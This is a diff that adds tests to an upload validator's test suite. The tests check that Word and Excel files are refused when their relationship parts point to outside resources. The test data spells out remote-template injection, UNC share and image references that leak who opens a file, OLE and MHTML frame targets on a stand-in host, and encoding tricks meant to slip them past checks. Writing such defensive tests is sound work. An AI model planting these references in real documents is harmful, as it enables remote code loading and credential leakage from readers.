@@ -110,6 +110,52 @@ describe("an office document", () => {
     await refused(await officeFile("docx", parts as Record<string, string>), "files.office_unsafe");
   });
 
+  describe("that would fetch from elsewhere", () => {
+    const relations = (kind: string, target: string, mode = 'TargetMode="External"', head = "") =>
+      `${head}<Relationships><Relationship Id="r>1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" ${mode}/></Relationships>`;
+    const withRelations = (text: string | Buffer, part = "word/_rels/settings.xml.rels") =>
+      officeFile("docx", { [part]: text });
+
+    it.each([
+      ["a template", "attachedTemplate", "http://evil.test/x.dotm"],
+      ["a template of a share", "attachedTemplate", "\\\\evil.test\\x.dotm"],
+      ["the same, as an address", "attachedTemplate", "file://evil.test/x.dotm"],
+      ["the same, hidden behind slashes", "attachedTemplate", "file:///\\\\evil.test\\x.dotm"],
+      ["the same, with signs spelt out", "attachedTemplate", "&#x5c;&#92;evil.test&#92;x.dotm"],
+      ["an address with its colon spelt out", "attachedTemplate", "http&#58;//evil.test/x.dotm"],
+      ["an object", "oleObject", "https://evil.test/x"],
+      ["a frame", "frame", "mhtml:https://evil.test/x!x-usc:https://evil.test/x"],
+      ["another workbook of the web", "externalLinkPath", "https://evil.test/x.xlsx"],
+      ["a picture of a share, which would tell who reads it", "image", "//evil.test/x.png"],
+    ])("%s is refused", async (_what, kind, target) => {
+      await refused(await withRelations(relations(kind, target)), "files.office_unsafe");
+      await refused(await withRelations(relations(kind, target), "_RELS/x.RELS"), "files.office_unsafe");
+    });
+
+    it.each([
+      ["a link that is clicked", "hyperlink", "https://www.gov.cn/"],
+      ["a picture pasted from a page", "image", "https://www.gov.cn/x.png"],
+      ["a template of one's own disk", "attachedTemplate", "file:///C:\\模板\\通知.dotx"],
+      ["a workbook beside it", "externalLinkPath", "2025年收支.xlsx"],
+      ["a workbook of one's own disk", "externalLinkPath", "/D:\\账\\2025年收支.xlsx"],
+    ])("%s passes", async (_what, kind, target) => {
+      const file = await examine(await withRelations(relations(kind, target)), "a.docx");
+      expect(file.mediaType).toContain("wordprocessingml");
+    });
+
+    it("in a way that only the office program reads is refused", async () => {
+      const bad = relations("attachedTemplate", "http://evil.test/x.dotm");
+      const spelt = bad.replace("External", "&#69;xternal");
+      await refused(await withRelations(spelt), "files.office_unsafe");
+      for (const text of [
+        Buffer.from(`\uFEFF${bad}`, "utf16le"),
+        `<!DOCTYPE x [<!ENTITY e "External">]>${bad.replace("External", "&e;")}`,
+        `<?xml version="1.0" encoding="UTF-7"?>${bad}`,
+      ])
+        await refused(await withRelations(text), "files.archive_unsafe");
+    });
+  });
+
   it("without the parts of a document is an archive, which is refused", async () => {
     await refused(await zipOf({ "a.txt": "a" }), "files.kind_not_allowed", { kind: "压缩包" });
     await refused(await zipOf({ "[Content_Types].xml": contentTypes("docx") }), "files.kind_not_allowed");
